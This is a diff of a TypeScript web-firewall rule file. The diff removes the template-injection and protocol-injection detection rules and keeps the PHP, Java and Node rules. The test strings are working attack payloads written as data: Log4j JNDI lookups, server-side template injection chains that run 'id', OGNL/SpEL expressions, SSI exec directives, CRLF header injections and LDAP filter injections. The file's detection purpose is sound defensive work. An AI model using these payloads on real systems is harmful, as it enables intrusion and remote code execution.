@@ -1,26 +1,9 @@
-/** Text that some runtime would run or make objects of: lookups of Log4j, templates, serialised objects, prototypes. */
+/** Text that PHP, Java or Node.js would run or make objects of: calls, serialised objects, prototypes. */
 import { DOLLAR, QUOTE } from '../character-classes.ts';
-import {
-  IN_ALL,
-  IN_BODY,
-  IN_COOKIE,
-  IN_FILE,
-  IN_FILE_NAME,
-  IN_HEADER,
-  IN_NAME,
-  IN_PATH,
-  IN_QUERY,
-  IN_VALUES,
-  LINES,
-  rule,
-  SHELL,
-  type WafRule,
-} from '../rule.ts';
+import { IN_FILE, IN_FILE_NAME, IN_HEADER, IN_NAME, IN_QUERY, IN_VALUES, rule, SHELL, type WafRule } from '../rule.ts';
 
 const WHERE = IN_VALUES | IN_NAME | IN_HEADER;
 
-const template = (given: Omit<Parameters<typeof rule>[0], 'category'>): WafRule =>
-  rule({ category: 'template', targets: IN_ALL, ...given });
 const php = (given: Omit<Parameters<typeof rule>[0], 'category'>): WafRule => rule({ category: 'php', targets: WHERE, ...given });
 const java = (given: Omit<Parameters<typeof rule>[0], 'category'>): WafRule => rule({ category: 'java', targets: WHERE, ...given });
 const node = (given: Omit<Parameters<typeof rule>[0], 'category'>): WafRule => rule({ category: 'node', targets: WHERE, ...given });
@@ -29,120 +12,6 @@ const PHP_CALLS =
   'system|exec|passthru|shell_exec|eval|assert|popen|proc_open|pcntl_exec|phpinfo|base64_decode|create_function|call_user_func(?:_array)?|file_get_contents|file_put_contents|fopen|readfile|include|require|unserialize|preg_replace|array_map|usort|ob_start|highlight_file|show_source|var_dump|print_r|die|chr|str_rot13|gzinflate|move_uploaded_file|curl_exec|mail|scandir|opendir|getenv|putenv';
 
 export const CODE_RULES: readonly WafRule[] = [
-  template({
-    id: 4500,
-    needs: DOLLAR,
-    description: 'A lookup of Log4j (CVE-2021-44228)',
-    words: ['jndi'],
-    pattern: '[$%#]\\{ *jndi *:',
-    matches: ['${jndi:ldap://x/a}', '${JNDI:dns://x}', '${ jndi:ldap://x}'],
-    misses: ['jndi: a name service', '${jdk}'],
-  }),
-  template({
-    id: 4501,
-    needs: DOLLAR,
-    description: 'A lookup of Log4j in disguise',
-    words: ['::-', 'lower:', 'upper:', 'env:', 'sys:', 'date:', 'main:', 'ctx:', 'java:', 'base64:', 'k8s:', 'web:', 'marker:', ':-'],
-    pattern:
-      '\\$\\{[^{}]{0,80}\\$\\{ *(?:[a-z0-9_]{0,20}:){1,3}[^{}]{0,60}\\}|\\$\\{ *(?:lower|upper) *:|\\$\\{[^{}:]{0,20}(?::[^{}:]{0,20}){1,3}:-[^{}]{1,6}\\}|\\$\\{(?:sys|java|k8s|web|ctx|main|marker|base64):[a-z._-]{1,60}\\}',
-    matches: [
-      '${${lower:j}ndi:ldap://x}',
-      '${${::-j}${::-n}di:x}',
-      '${lower:j}',
-      '${env:NaN:-j}',
-      '${j${k8s:k5:-ND}i:x}',
-      '${sys:java.version}',
-      '${${env:BARFOO:-j}ndi${env:BARFOO:-:}x}',
-    ],
-    misses: ['${name}', '${a ? b : c}', 'class ${prefix}:hover', '${VAR:-default value}'],
-  }),
-  template({
-    id: 4502,
-    description: 'An expression that reaches into the runtime of a template',
-    words: [
-      '__',
-      'constructor',
-      '_self',
-      'getruntime',
-      'freemarker',
-      '?new',
-      'lipsum',
-      'cycler',
-      'config',
-      'request',
-      'self.',
-      'runtime',
-      'processbuilder',
-      'system(',
-      'forname',
-      'classloader',
-      'import(',
-      'require(',
-      'mainmodule',
-      'popen',
-      'map(',
-      'filter(',
-      'attr(',
-    ],
-    pattern:
-      '(?:\\{\\{|\\{%|\\$\\{|#\\{|\\*\\{|<%=?|\\{php|\\[\\[|@\\().{0,300}?(?:__(?:class|mro|subclasses|globals|builtins|import|init|base|bases|dict|getattribute)__|\\bconstructor *[.(\\[]|_self\\.|getruntime|freemarker\\.template|\\?new *\\(|\\blipsum\\b|\\bcycler\\.|\\bconfig(?:\\.items|\\.class|\\.from_| *\\}\\})|\\brequest\\.(?:application|environ|class)|\\bself\\.(?:__|_tem|env)|java\\.lang|processbuilder|\\bsystem *\\(|\\.forname *\\(|classloader|mainmodule|\\bpopen *\\(|\\[.{1,60}\\] *\\| *(?:map|filter|sort|reduce) *\\( *[\'"](?:system|exec|passthru)|\\| *attr *\\()',
-    matches: [
-      "{{''.__class__.__mro__[1].__subclasses__()}}",
-      '{{config.items()}}',
-      '{{config}}',
-      '${T(java.lang.Runtime).getRuntime().exec("id")}',
-      '${"freemarker.template.utility.Execute"?new()("id")}',
-      "{{['id']|filter('system')}}",
-      "{{constructor.constructor('alert(1)')()}}",
-      '{{_self.env.registerUndefinedFilterCallback("exec")}}',
-      "#{system('id')}",
-      '<%= system("id") %>',
-      '{{request.application.__globals__}}',
-    ],
-    misses: [
-      'Hello {{ user.name }}',
-      '{% if user %}hi{% endif %}',
-      '${config.title}',
-      '<%= name %>',
-      'class A { constructor(x) {} }',
-      '{{ configuration }}',
-    ],
-  }),
-  template({
-    id: 4503,
-    description: 'Arithmetic to see whether a template counts',
-    words: ['*', '`'],
-    pattern:
-      '<%=? *`[^`]{1,100}`|(?:\\{\\{|\\$\\{|#\\{|\\*\\{|<%=|\\{\\{=|@\\() *(?:[\'"]?\\d{1,9}[\'"]? *\\* *[\'"]?\\d{1,9}[\'"]?) *(?:\\}\\}|\\}|%>|\\))',
-    matches: ['{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', "{{7*'7'}}", '@(7*7)', '*{7*7}'],
-    misses: ['{{ 7 }}', '${price * count}', '7*7'],
-  }),
-  template({
-    id: 4504,
-    targets: WHERE | IN_PATH,
-    description: 'OGNL and SpEL (Struts, Spring)',
-    words: ['#_memberaccess', '@ognl', '#context', '#request', '#attr', '#cmd', 'getruntime', '#dm', '(#', '%{', 't(java', 'ognl.', '#a='],
-    pattern:
-      '#_memberaccess|@ognl\\.|ognl\\.ognlcontext|%\\{ *\\(? *#|\\$\\{ *\\(? *#[a-z_]+ *[=.\\[]|\\(#[a-z_]{1,24} *=[^=]|#context *\\[|\\bt\\( *java\\.|getruntime *\\( *\\) *\\. *exec|@java\\.lang',
-    matches: [
-      '%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}',
-      '${#context["xwork"]}',
-      "%{(#nike='multipart/form-data')}",
-      'T(java.lang.Runtime).getRuntime()',
-      "(#cmd='id')",
-    ],
-    misses: ['color (#fff)', 'issue (#12) = done', '100%{of}'],
-  }),
-  template({
-    id: 4505,
-    targets: IN_VALUES,
-    description: 'Server-side includes and edge-side includes',
-    words: ['<!--#', '<esi:'],
-    pattern: '<!--# *(?:exec|include|echo|config|printenv|fsize|flastmod|set) |<esi:(?:include|inline|debug|vars|remove|eval)',
-    matches: ['<!--#exec cmd="id" -->', '<esi:include src=http://x/>'],
-    misses: ['<!-- # heading -->'],
-  }),
-
   php({
     id: 3300,
     description: 'A serialised object of PHP',
@@ -311,60 +180,5 @@ export const CODE_RULES: readonly WafRule[] = [
     pattern: 'require *\\( *[\'"`](?:fs|child_process|net|http|os|vm|module|process)|process\\.env\\b|import\\( *[\'"`]',
     matches: ["require('fs')", 'process.env'],
     misses: ['required (fs)'],
-  }),
-
-  rule({
-    id: 2010,
-    category: 'protocol',
-    targets: IN_QUERY | IN_BODY | IN_COOKIE | IN_HEADER,
-    form: LINES,
-    description: 'A header field behind a line end (response splitting)',
-    words: ['\n', '\r'],
-    pattern:
-      '^[^\\r\\n]{0,200}[\\r\\n]+[ ]*(?:set-cookie|location|content-(?:type|length|disposition|security-policy)|transfer-encoding|access-control-[a-z-]+|refresh|x-xss-protection) *:|^[^\\r\\n]{0,200}[\\r\\n]+http/1\\.[01] \\d',
-    matches: ['x\r\nSet-Cookie: a=b', '/\nLocation: http://evil', 'a\r\n\r\nHTTP/1.1 200 OK', 'x\r\nContent-Length: 0'],
-    misses: ['first line\nsecond line', 'Dear all\nlocation of the party'],
-  }),
-  rule({
-    id: 2011,
-    category: 'protocol',
-    targets: IN_VALUES,
-    form: LINES,
-    description: 'A request within a value (request smuggling)',
-    words: ['http/1'],
-    pattern: '[\\r\\n](?:get|post|head|put|delete|options|patch|connect|trace|propfind) +[^ \\r\\n]{1,600} +http/1\\.[01] *(?:[\\r\\n]|$)',
-    matches: ['x\r\nGET /admin HTTP/1.1\r\nHost: x', '0\n\nPOST / HTTP/1.0'],
-    misses: ['GET / HTTP/1.1', 'the http/1.1 protocol'],
-  }),
-  rule({
-    id: 2012,
-    category: 'protocol',
-    targets: IN_VALUES,
-    form: LINES,
-    description: 'Fields of a mail behind a line end',
-    words: ['\nbcc', '\ncc', '\nto', '\nmime'],
-    pattern: '^[^ \\r\\n]{1,120}[\\r\\n]+(?:bcc|cc|to|mime-version|content-transfer-encoding) *:',
-    matches: ['a@b.c\nBcc: x@y.z', 'a@b.c\r\ncc:x@y.z'],
-    misses: ['hello there\nto: all'],
-  }),
-  rule({
-    id: 2013,
-    category: 'protocol',
-    targets: IN_VALUES,
-    description: 'A filter of LDAP',
-    words: [')('],
-    pattern: '^[^ ]{0,80}\\) *\\( *[|&!]? *\\(? *[a-z][a-z0-9;-]{0,30}(?:[~<>]?=)|^\\*\\)\\(',
-    matches: ['*)(uid=*))(|(uid=*', 'admin)(&(password=*)', 'x)(cn=*'],
-    misses: ['f(a)(b)', '(a)(b = c)'],
-  }),
-  rule({
-    id: 4300,
-    category: 'session',
-    targets: IN_VALUES,
-    description: 'Script or markup that sets a cookie',
-    words: ['cookie'],
-    pattern: 'document\\.cookie *= *["\'`a-z]|<meta[^>]{0,200}set-cookie|[\\r\\n%]set-cookie:',
-    matches: ['document.cookie="sid=1"', '<meta http-equiv=Set-Cookie content=x>'],
-    misses: ['set cookie', 'read document.cookie', 'document.cookie === x'],
   }),
 ];
